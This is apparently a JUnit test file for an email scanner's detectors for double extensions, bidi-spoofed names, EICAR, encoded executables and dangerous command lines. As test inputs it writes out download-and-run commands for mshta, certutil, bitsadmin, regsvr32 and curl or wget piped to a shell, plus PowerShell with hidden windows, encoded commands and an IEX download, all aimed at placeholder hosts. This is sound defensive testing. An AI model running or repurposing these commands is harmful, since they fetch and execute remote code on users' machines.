package org.streamail.detect.content.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
import static org.streamail.detect.content.internal.Samples.*;

import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.streamail.testsupport.CountingText;
import org.streamail.api.model.Finding;

class NameAndTextTest {

    @Test
    void aDoubleExtensionIsFound() {
        List<Finding> f = scanAttachment("invoice.pdf.exe", "application/pdf", utf8("not really"));
        assertThat(only(f, "double-extension").part()).isEqualTo("invoice.pdf.exe");
        assertThat(rules(scanAttachment("photo.jpg      .scr", "image/jpeg", utf8("x")))).contains("double-extension");
        assertThat(rules(scanAttachment("report.final.pdf", "application/pdf", pdf("")))).isEmpty();
    }

    @Test
    void bidiControlsInANameAreFound() {
        String name = "invoice\u202Efdp.exe";
        Finding f = only(scanAttachment(name, "application/pdf", pe()), "bidi-filename");
        assertThat(f.detail()).contains("<U+202E>");
        assertThat(rules(scanAttachment("a\u2066b.txt", "text/plain", utf8("x")))).contains("bidi-filename");
    }

    @Test
    void disagreeingNamesAreFoundButUnicodeNormalFormsAgree() {
        List<Finding> f = scan(message("", "", attachment("invoice.pdf", "invoice.exe", "application/pdf", pdf(""))));
        assertThat(only(f, "name-mismatch").detail()).contains("invoice.exe");
        String nfd = "re\u0301sume\u0301.pdf";
        String nfc = "r\u00e9sum\u00e9.pdf";
        assertThat(scan(message("", "", attachment(nfd, nfc, "application/pdf", pdf(""))))).isEmpty();
    }

    @Test
    void anExecutableNameInEitherNameParameterIsJudged() {
        // Clients differ in which name they save a part under: filename= (Content-Disposition) or name=
        // (Content-Type). A script behind a harmless filename= is still a script to the client that uses name=.
        byte[] js = utf8("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');");
        List<Finding> f = scan(message("", "", attachment("readme.txt", "readme.js", "application/octet-stream", js)));
        assertThat(only(f, "executable").detail()).contains(".js");
        List<Finding> iso = scan(message("", "", attachment("photo.jpg", "photo.iso", "application/octet-stream",
                utf8("x"))));
        assertThat(rules(iso)).contains("disk-image");
        assertThat(rules(scan(message("", "", attachment("a.txt", "b.txt", "text/plain", utf8("x"))))))
                .doesNotContain("executable", "disk-image");
    }

    @Test
    void aDeclaredTypeThatDisagreesWithTheContentIsFound() {
        byte[] zip = zip("a.txt", utf8("x"));
        assertThat(only(scanAttachment("photo.jpg", "image/jpeg", zip), "type-mismatch").detail())
                .contains("image/jpeg").contains("ZIP");
        assertThat(rules(scanAttachment("report.pdf", "application/octet-stream", zip))).contains("type-mismatch");
        assertThat(scanAttachment("data.zip", "application/zip", zip)).isEmpty();
    }

    @Test
    void theEicarTestStringIsFoundInBodiesAttachmentsAndArchives() {
        String eicar = new String(eicar(), java.nio.charset.StandardCharsets.US_ASCII);
        assertThat(only(scan(message(eicar, "")), "eicar").part()).isEqualTo("text body");
        assertThat(only(scanAttachment("eicar.com", "application/octet-stream", eicar()), "eicar").part())
                .isEqualTo("eicar.com");
        assertThat(only(scanAttachment("t.zip", "application/zip", zip("eicar.txt", eicar())), "eicar").part())
                .isEqualTo("t.zip!/eicar.txt");
    }

    @Test
    void base64AndHexBlobsThatDecodeToAnExecutableAreFound() {
        String b64 = Base64.getMimeEncoder().encodeToString(pe());
        assertThat(only(scan(message("Please run this:\n" + b64 + "\n", "")), "base64-executable").part())
                .isEqualTo("text body");
        String hex = java.util.HexFormat.of().formatHex(pe());
        assertThat(rules(scan(message("", "<pre>" + hex + "</pre>")))).contains("base64-executable");
        String png = Base64.getEncoder().encodeToString(new byte[] {(byte) 0x89, 'P', 'N', 'G', 1, 2, 3, 4, 5, 6});
        assertThat(scan(message("logo: " + png + " TVqQ and some words", ""))).isEmpty();
    }

    @Test
    void dangerousCommandLinesAreFound() {
        assertThat(only(scan(message("run: powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "")),
                "command-line").detail()).contains("PowerShell");
        assertThat(rules(scan(message("mshta https://evil.example/a.hta", "")))).contains("command-line");
        assertThat(rules(scan(message("certutil -urlcache -split -f http://x/a.exe a.exe", ""))))
                .contains("command-line");
        assertThat(rules(scan(message("curl -s https://x.example/i.sh | sudo bash", "")))).contains("command-line");
        assertThat(rules(scanAttachment("setup.txt", "text/plain",
                utf8("cmd.exe /c powershell iex(new-object net.webclient).downloadstring('http://x')"))))
                .contains("command-line");
    }

    @Test
    void powerShellParameterPrefixesAndDashLookAlikesAreFound() {
        // powershell.exe takes any prefix of a parameter name (-en, -enco, -encodedc, -windowst, -ep) and an en
        // dash, em dash or horizontal bar for "-": the obfuscations Invoke-Obfuscation writes.
        for (String cmd : new String[] {"powershell -en SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "powershell -encodedc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell \u2013enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "powershell.exe -nop -windowst hidden -c calc", "powershell \u2014w hidden -c calc",
            "powershell -ep bypass -f a.ps1", "powershell -ex bypass -f a.ps1"}) {
            assertThat(rules(scan(message("run: " + cmd, "")))).as(cmd).contains("command-line");
        }
        assertThat(rules(scan(message("powershell -e", "")))).doesNotContain("command-line");
    }

    @Test
    void aCommandInAnyCaseIsFoundAndATextNamingNoProgramIsNotScannedForOne() {
        // each command is looked for only in a text that names its program (lower-cased first, as the patterns fold
        // ASCII case): capitals and mixed case are still found
        for (String cmd : new String[] {"POWERSHELL -W HIDDEN -C calc", "PowerShell.exe -EncodedCommand "
                + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "MSHTA https://evil.example/a.hta", "CertUtil -URLCache -f "
                + "http://x/a.exe", "BITSADMIN /TRANSFER j http://x/a.exe c:\\a.exe", "RegSvr32 /i:http://x/a.sct "
                + "scrobj.dll", "RUNDLL32 javascript:alert(1)", "CMD.EXE /C powershell -c x", "CURL -s http://x/i | SH",
                "WGET -qO- http://x/i | BASH"}) {
            assertThat(rules(scan(message("run: " + cmd, "")))).as(cmd).contains("command-line");
        }
        for (TextInspector.Command c : TextInspector.COMMANDS) {
            assertThat(c.names()).as(c.what()).isNotEmpty().allMatch(n -> n.equals(n.toLowerCase(java.util.Locale.ROOT)));
            assertThat(c.mayHold("an invoice, nothing to run")).as(c.what()).isFalse();
            assertThat(c.mayHold(("run: " + c.names().get(0) + " now").toLowerCase(java.util.Locale.ROOT))).isTrue();
        }
    }

    @Test
    void proseAboutToolsIsNotACommandLine() {
        assertThat(scan(message("Our PowerShell training covers certutil basics and how mshta works. "
                + "Use curl to test the API.", ""))).isEmpty();
    }

    @Test
    void aCommandIsFoundWhereverItsDangerousPartStandsAndOnlyThere() {
        // at the edge of the window: 190 characters between keyword and indicator still count, a line break does not
        assertThat(rules(scan(message("powershell " + "x".repeat(190) + " -w hidden", "")))).contains("command-line");
        assertThat(rules(scan(message("powershell " + "x".repeat(300) + " -w hidden", "")))).doesNotContain("command-line");
        assertThat(rules(scan(message("powershell\n -w hidden", "")))).doesNotContain("command-line");
        assertThat(rules(scan(message("iex first, then powershell", "")))).doesNotContain("command-line");
        assertThat(rules(scan(message("cmd.exe    /c start wscript evil.js", "")))).contains("command-line");
        assertThat(rules(scan(message("wget -qO- https://x.example/i | sh", "")))).contains("command-line");
        assertThat(rules(scan(message("wget https://x.example/i\n| sh", "")))).doesNotContain("command-line");
    }

    @Test
    void aTextFullOfKeywordsHidesNoRealCommandAfterIt() {
        // sixth audit: 1 MB of "powershell " took 2.4 s, a 200-character lazy scan at every keyword
        // (measured, not asserted: the whole scan of 2 MB of "powershell " 2.0 s before, 0.9 s after; README)
        String flood = "powershell ".repeat(190_000); // 2 MB, max.text.scan
        assertThat(rules(scan(message(flood, "")))).doesNotContain("command-line");
        assertThat(rules(scan(message(flood.substring(0, 500_000) + "\npowershell -w hidden -c x", ""))))
                .contains("command-line");
    }

    @Test
    void aLongRunOfCombiningMarksIsReadOnceByTheCommandPatterns() {
        // found by WalkerFuzzTest#cssAndBase64Scans (seed combining-marks): Java's \b walked back over the whole
        // run of marks at every position, so 16 000 U+032C took more than 12 s and max.text.scan of them hours
        String marks = "\u032c".repeat(5_000);
        for (String text : List.of("x" + marks, "powershell " + marks + " -w hidden", "cmd /c " + marks + " iex",
                marks + "curl " + marks + "| sh")) {
            for (TextInspector.Command c : TextInspector.COMMANDS) {
                CountingText t = new CountingText(text);
                TextInspector.find(c, t);
                assertThat(t.reads()).as(c.what()).isLessThan(50L * text.length());
            }
        }
        // a mark is not part of a word: a command after one is still found, one glued to a word still is not
        assertThat(rules(scan(message("x" + marks + "mshta https://evil.example/a.hta", "")))).contains("command-line");
        assertThat(rules(scan(message("\u0301powershell -w hidden", "")))).contains("command-line");
        assertThat(rules(scan(message("xpowershell -w hidden", "")))).doesNotContain("command-line");
        assertThat(rules(scan(message("powershell -w hidden", "")))).contains("command-line");
    }

    @Test
    void base64TextOfAnArchiveHoldingAnExecutableIsFound() {
        String zip = Base64.getMimeEncoder().encodeToString(zip(entries("readme.txt", "hi", "invoice.exe", pe())));
        String body = "Our scanner blocks attachments. Decode the text below, unzip it and run the installer:\n\n"
                + zip + "\n\nRegards\n";
        Finding f = only(scan(message(body, "")), "base64-archive");
        assertThat(f.part()).isEqualTo("text body");
        assertThat(f.score()).isEqualTo(5.0);
        assertThat(f.detail()).contains("ZIP archive", "invoice.exe");
        assertThat(rules(scan(message(body, "")))).doesNotContain("executable");
        // a .txt part (7bit or quoted-printable: its text is the blob), and the same one level down in a ZIP
        assertThat(only(scanAttachment("key.txt", "text/plain", utf8(body)), "base64-archive").part())
                .isEqualTo("key.txt");
        assertThat(only(scanAttachment("t.zip", "application/zip", zip("key.txt", utf8(body))), "base64-archive")
                .part()).isEqualTo("t.zip!/key.txt");
        // gzip and a ZIP inside the ZIP
        String gz = Base64.getEncoder().encodeToString(gzip(pe()));
        assertThat(rules(scan(message("run: " + gz, "")))).contains("base64-archive");
        String nested = Base64.getEncoder().encodeToString(zip("inner.zip", zip("x.exe", pe())));
        assertThat(rules(scan(message(nested, "")))).contains("base64-archive");
    }

    @Test
    void base64ThatIsNotAnArchiveWithAnExecutableIsNotReported() {
        String docs = Base64.getMimeEncoder().encodeToString(zip(entries("a.pdf", pdf(""), "b.txt", "notes")));
        String docx = Base64.getMimeEncoder().encodeToString(docx(paragraph("hello")));
        byte[] pgpBytes = new byte[600];
        new java.util.Random(1).nextBytes(pgpBytes);
        pgpBytes[0] = (byte) 0x85;
        String pgp = "-----BEGIN PGP MESSAGE-----\n\n" + Base64.getMimeEncoder().encodeToString(pgpBytes)
                + "\n=njUN\n-----END PGP MESSAGE-----\n";
        String smime = "MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwGggCSABIIB";
        String png = Base64.getEncoder().encodeToString(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0});
        String broken = "UEsDBBQAAAAIAA" + "A".repeat(200);
        for (String text : new String[] {docs, docx, pgp, smime, "<img src=\"data:image/png;base64," + png + "\">",
                broken}) {
            assertThat(scan(message(text, ""))).as(text).isEmpty();
        }
    }

    @Test
    void aBase64ArchiveIsDecodedOnlyUpToItsBound() {
        // 1.2 MB of padding and the executable: at most 1 MB is decoded, and the cut ZIP is read entry by entry
        // from its start, so the executable is found before the padding and not after it.
        byte[] pad = new byte[1200 * 1024];
        new java.util.Random(2).nextBytes(pad);
        String first = Base64.getMimeEncoder().encodeToString(zip(entries("invoice.exe", pe(), "pad.bin", pad)));
        assertThat(only(scan(message(first, "")), "base64-archive").detail()).contains("invoice.exe");
        String last = Base64.getMimeEncoder().encodeToString(zip(entries("pad.bin", pad, "invoice.exe", pe())));
        assertThat(last.length()).isLessThan(Settings.defaults().maxTextScan());
        assertThat(scan(message(last, ""))).isEmpty();
    }

    /** {@code text} quoted line by line as a mail client quotes a reply, cycling through {@code prefixes}. */
    static String quote(String text, String... prefixes) {
        StringBuilder b = new StringBuilder();
        String[] lines = text.split("\n", -1);
        for (int i = 0; i < lines.length; i++) {
            b.append(prefixes[i % prefixes.length]).append(lines[i]).append(i + 1 < lines.length ? "\n" : "");
        }
        return b.toString();
    }

    @Test
    void quotedBase64ArchivesAndExecutablesAreFound() {
        String zip = Base64.getMimeEncoder().encodeToString(zip(entries("readme.txt", "hi", "invoice.exe", pe())));
        String exe = Base64.getMimeEncoder().encodeToString(pe());
        String[][] quotings = {{"> "}, {">"}, {">> "}, {"> > "}, {">", "> ", ">>", "> >", " > "}};
        for (String[] q : quotings) {
            String body = "On Monday Bob wrote:\n" + quote("Decode the text below and unzip it:\n\n" + zip
                    + "\n\nBob", q) + "\n\nThanks!\n";
            assertThat(only(scan(message(body, "")), "base64-archive").detail()).as(q[0]).contains("invoice.exe");
            String run = "Bob wrote:\n" + quote("run this:\n" + exe, q);
            assertThat(rules(scan(message(run, "")))).as(q[0]).contains("base64-executable");
        }
    }

    @Test
    void aBase64ArchiveBehindJunkOnItsFirstLineIsFound() {
        String zip = Base64.getMimeEncoder().encodeToString(zip(entries("invoice.exe", pe())));
        for (String body : new String[] {"xyzw" + zip, "Key:xyz" + zip, "Decode this, drop the first 4:\nJUNK" + zip,
                "Bob wrote:\n" + quote("JUNK" + zip, "> ")}) {
            assertThat(only(scan(message(body, "")), "base64-archive").detail()).as(body.substring(0, 20))
                    .contains("invoice.exe");
        }
    }

    @Test
    void quotedProseAndArmouredOrWrappedBlocksAreStillNotReported() {
        String prose = "Bob wrote:\n" + quote("Hi Ann,\nthe H4sI lot said UEsDBeta is fine, QlpoMan agreed.\n\n"
                + "> Cheers,\n> Ann", "> ", ">");
        assertThat(scan(message(prose, ""))).isEmpty();
        // A ZIP with an executable 9 bytes into a PGP packet: its base64 stands behind 12 characters on the first
        // line of the armour, as junk would. Not reported, quoted or not; without the armour it is.
        byte[] zip = zip(entries("invoice.exe", pe()));
        byte[] packet = new byte[9 + zip.length];
        packet[0] = (byte) 0xCB; // literal data packet, new format
        System.arraycopy(zip, 0, packet, 9, zip.length);
        String b64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(packet);
        assertThat(b64.indexOf("UEsDB")).isEqualTo(12);
        String pgp = "-----BEGIN PGP MESSAGE-----\n\n" + b64 + "\n=njUN\n-----END PGP MESSAGE-----\n";
        assertThat(scan(message(pgp, ""))).isEmpty();
        assertThat(scan(message("Bob wrote:\n" + quote(pgp, "> "), ""))).isEmpty();
        assertThat(rules(scan(message("\n" + b64 + "\n", "")))).contains("base64-archive");
        // the same 12 characters at the start of a later line of a wrapped run: inside the run, not a blob start
        byte[] random = new byte[48 * 3];
        new java.util.Random(3).nextBytes(random);
        byte[] wrapped = java.util.Arrays.copyOf(random, random.length + packet.length);
        System.arraycopy(packet, 0, wrapped, random.length, packet.length);
        String run = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(wrapped);
        assertThat(run.indexOf("UEsDB")).isEqualTo(3 * 65 + 12);
        assertThat(scan(message(run, ""))).isEmpty();
        assertThat(scan(message(quote(run, "> "), ""))).isEmpty();
    }

    /** {@code s} in lines of {@code width} characters, as encoders and hex dumps wrap. */
    static String wrap(String s, int width) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < s.length(); i += width) {
            b.append(s, i, Math.min(s.length(), i + width)).append('\n');
        }
        return b.toString();
    }

    @Test
    void wrappedAndQuotedHexExecutablesAreFound() {
        byte[] macho = new byte[256];
        macho[0] = (byte) 0xCF; // 64-bit Mach-O, little-endian: cf fa ed fe
        macho[1] = (byte) 0xFA;
        macho[2] = (byte) 0xED;
        macho[3] = (byte) 0xFE;
        String[][] quotings = {{""}, {"> "}, {">"}, {">> "}, {"> > "}, {">", "> ", ">>", "> >", " > "}};
        for (byte[] exe : List.of(pe(), elf(), macho)) {
            String hex = wrap(java.util.HexFormat.of().formatHex(exe), 64);
            for (String[] q : quotings) {
                String body = "Bob wrote:\n" + quote("save this as hex and convert it:\n" + hex + "\nBob", q);
                assertThat(only(scan(message(body, "")), "base64-executable").detail()).as(q[0] + hex.substring(0, 8))
                        .startsWith("hex text decodes to a");
                assertThat(rules(scan(message(body.toUpperCase(java.util.Locale.ROOT), "")))).as(q[0])
                        .contains("base64-executable");
            }
        }
        // quiet: magic numbers quoted in prose, a short hex run, and a wrapped hex run that is not a program
        String prose = "Bob wrote:\n" + quote("MZ is 4d5a in hex, ELF starts 7f454c46, Java cafebabe\n"
                + "4d5a9000030000000400\n> and feedface is Mach-O", "> ", ">");
        assertThat(scan(message(prose, ""))).isEmpty();
        byte[] notExe = new byte[512];
        new java.util.Random(4).nextBytes(notExe);
        notExe[0] = 'M';
        notExe[1] = 'Z';
        assertThat(scan(message(quote(wrap(java.util.HexFormat.of().formatHex(notExe), 64), "> "), ""))).isEmpty();
    }

    /** {@code data} in hex byte pairs one space apart, 16 a line, as many hex dumps write it. */
    static String spacedHex(byte[] data) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < data.length; i++) {
            b.append(String.format("%02x", data[i] & 0xff)).append(i % 16 == 15 ? "\n" : " ");
        }
        return b.toString();
    }

    @Test
    void hexTextOfAnArchiveHoldingAnExecutableIsFound() {
        byte[] zip = zip(entries("readme.txt", "hi", "invoice.exe", pe()));
        String hex = wrap(java.util.HexFormat.of().formatHex(zip), 64);
        for (String body : new String[] {"Convert this hex to a file and unzip it:\n" + hex,
            "Bob wrote:\n" + quote("save as hex, then unzip:\n" + hex, "> ", ">"),
            ("Convert:\n" + hex).toUpperCase(java.util.Locale.ROOT), "Bytes:\n" + spacedHex(zip),
            "junk a5" + hex}) {
            Finding f = only(scan(message(body, "")), "base64-archive");
            assertThat(f.detail()).as(body.substring(0, 12)).startsWith("hex text decodes to a ZIP archive")
                    .contains("invoice.exe");
            assertThat(f.part()).isEqualTo("text body");
        }
        assertThat(only(scanAttachment("key.txt", "text/plain", utf8(hex)), "base64-archive").part())
                .isEqualTo("key.txt");
        assertThat(rules(scan(message(java.util.HexFormat.of().formatHex(gzip(elf())), ""))))
                .contains("base64-archive");
        // quiet: an archive without a program, signatures quoted in prose, a short run, a broken archive
        assertThat(scan(message(wrap(java.util.HexFormat.of().formatHex(zip("a.pdf", pdf(""))), 64), ""))).isEmpty();
        assertThat(scan(message("A ZIP starts 504b0304 (50 4b 03 04), gzip 1f8b08, OLE d0cf11e0a1b11ae1.", "")))
                .isEmpty();
        assertThat(scan(message("504b0304" + "0".repeat(400), ""))).isEmpty();
    }

    @Test
    void hexArchivesAreDecodedOnlyUpToTheirBound() {
        byte[] pad = new byte[600 * 1024];
        new java.util.Random(7).nextBytes(pad);
        String first = java.util.HexFormat.of().formatHex(zip(entries("invoice.exe", pe(), "pad.bin", pad)));
        String last = java.util.HexFormat.of().formatHex(zip(entries("pad.bin", pad, "pad2.bin", pad,
                "invoice.exe", pe())));
        assertThat(last.length()).isGreaterThan(2 * TextInspector.MAX_BASE64_ARCHIVE);
        assertThat(only(scan(message(first, "")), "base64-archive").detail()).contains("invoice.exe");
        // 2 M characters of text are scanned, which is also the 1 MB the decoder takes: the cut ZIP is read entry by
        // entry from its start, so a program past that point is not found
        assertThat(rules(scan(message(last, "")))).as("past 1 MB").doesNotContain("base64-archive");
        // ten short non-archives ahead use the ten decodes: the eleventh run is not decoded
        String decoy = wrap(java.util.HexFormat.of().formatHex(zip("a.pdf", pdf(""))), 64);
        String zipHex = wrap(java.util.HexFormat.of().formatHex(zip("x.exe", pe())), 64);
        assertThat(rules(scan(message((decoy + "\n-\n").repeat(9) + zipHex, "")))).contains("base64-archive");
        assertThat(rules(scan(message((decoy + "\n-\n").repeat(10) + zipHex, "")))).doesNotContain("base64-archive");
    }

    /** {@code n} lines of 64 base64 characters of random bytes, each starting with {@code start}. */
    static String junkLines(int n, String start) {
        byte[] r = new byte[48 * n];
        new java.util.Random(5).nextBytes(r);
        String lines = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(r) + "\n";
        return lines.replaceAll("(?m)^.{" + start.length() + "}", start);
    }

    @Test
    void aBase64ArchiveAfterWholeLinesOfJunkIsFound() {
        // "decode from the 13th line": the blob starts at a line start inside a longer run. Found before too when the
        // junk lines hold no signature; lines that start with one each took one of the 10 decodes (and the rest of
        // the run from there out of the 1 MB budget), so the blob behind 10 of them was never decoded.
        String zip = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(zip(entries("invoice.exe", pe())));
        String gz = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(gzip(elf()));
        for (String junkStart : new String[] {"", "H4sI", "UEsDBAo", "N3q8ryc"}) {
            String junk = junkLines(12, junkStart);
            String body = "Decode from the 13th line:\n" + junk + zip + "\n";
            assertThat(only(scan(message(body, "")), "base64-archive").detail()).as(junkStart).contains("invoice.exe");
            assertThat(rules(scan(message("Bob wrote:\n" + quote(body, "> ", ">"), "")))).as(junkStart)
                    .contains("base64-archive");
            assertThat(rules(scan(message(junk + gz, "")))).as(junkStart).contains("base64-archive");
        }
        // one junk line ahead of a large blob: the run decoded from the junk used to take the budget the blob needed
        byte[] pad = new byte[600 * 1024];
        new java.util.Random(6).nextBytes(pad);
        String large = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(
                zip(entries("pad.bin", pad, "invoice.exe", pe())));
        assertThat(only(scan(message(junkLines(1, "H4sI") + large, "")), "base64-archive").detail())
                .contains("invoice.exe");
        // still quiet: the same junk ahead of an archive without a program
        String docs = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(zip("a.pdf", pdf("")));
        assertThat(scan(message(junkLines(12, "H4sI") + docs, ""))).isEmpty();
    }

    static byte[] gzip(byte[] data) {
        java.io.ByteArrayOutputStream bos = new java.io.ByteArrayOutputStream();
        try (var g = new java.util.zip.GZIPOutputStream(bos)) {
            g.write(data);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return bos.toByteArray();
    }
}
